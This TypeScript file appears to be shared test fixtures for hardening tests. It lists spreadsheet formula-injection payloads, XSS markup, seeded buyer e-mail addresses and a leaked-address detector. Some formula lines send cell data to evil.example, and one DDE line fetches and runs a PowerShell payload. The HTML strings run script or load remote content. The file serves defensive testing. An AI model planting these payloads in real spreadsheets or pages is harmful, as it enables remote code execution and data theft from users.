/**
 * Hostile text corpora for tests: what a buyer (or a pasted report) may put in a comment, a
 * reason or a cell. Shared by the hardening tests, the browser tests and the import tests.
 */

/**
 * Formula injection (CSV/spreadsheet injection): text that Sheets would run as a formula, or
 * that another spreadsheet program would, if a writer stored it as typed input instead of text.
 */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1',
  '=SUM(1,2)',
  '+1+1',
  '-1+1',
  '-2+3*4',
  '@SUM(1,2)',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for refund")',
  '=IMPORTXML("https://evil.example/x","//a")',
  '=IMPORTDATA("https://evil.example/data.csv")',
  '=IMPORTRANGE("1AbCdEfGhIjKlMnOp","Orders!A1:Z1000")',
  '=IMAGE("https://evil.example/pixel.png?c="&A1)',
  '=WEBSERVICE("https://evil.example/?"&A1)',
  '=GOOGLEFINANCE("GOOG")',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget evil.example/s)'!A0",
  "@cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＝HYPERLINK("https://evil.example","x")',
  '＋1+1',
  '﹦1+1',
  '="=1+1"',
  "'=1+1",
  '=A1',
  '=Orders!A1:A',
  '=ODR(Orders!A1:F10)',
  '=1/0',
  '0.5',
  '1e5',
  '2024-01-14',
  'TRUE',
];

/** HTML/JS injection: markup that would run or load something if a page used it as HTML. */
export const HTML_PAYLOADS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "'><svg/onload=alert(1)>",
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">click</a>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style></mtext></svg></mglyph></math>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<object data="https://evil.example/x.swf"></object>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '"onmouseover="alert(1)',
];

/** Buyer e-mail addresses as they appear in comments, reasons and the Rater Email column. */
export const EMAILS: readonly string[] = [
  'jane.doe@example.com',
  'j.doe+amazon@mail.example.co.uk',
  'BUYER_42@EXAMPLE.ORG',
  'wang.li@例子.公司',
  'jane＠example.com',
  'jane (at) example (dot) com',
  'jane at example dot com',
];

/** Finds any of the seeded e-mail addresses (or their parts) in a text. */
export function findEmail(text: string): string | null {
  for (const email of EMAILS) {
    const local = email.split(/\s*(?:@|＠|\(at\)|\sat\s)\s*/)[0];
    if (text.includes(email)) return email;
    // The local part next to an at-sign form is the address, even reformatted.
    if (new RegExp(`${escapeRegExp(local)}\\s*(@|＠|\\(at\\)|\\sat\\s)`, 'i').test(text))
      return email;
  }
  return /[\w.+-]+@[\w-]+\.[\w.-]+/.exec(text)?.[0] ?? null;
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
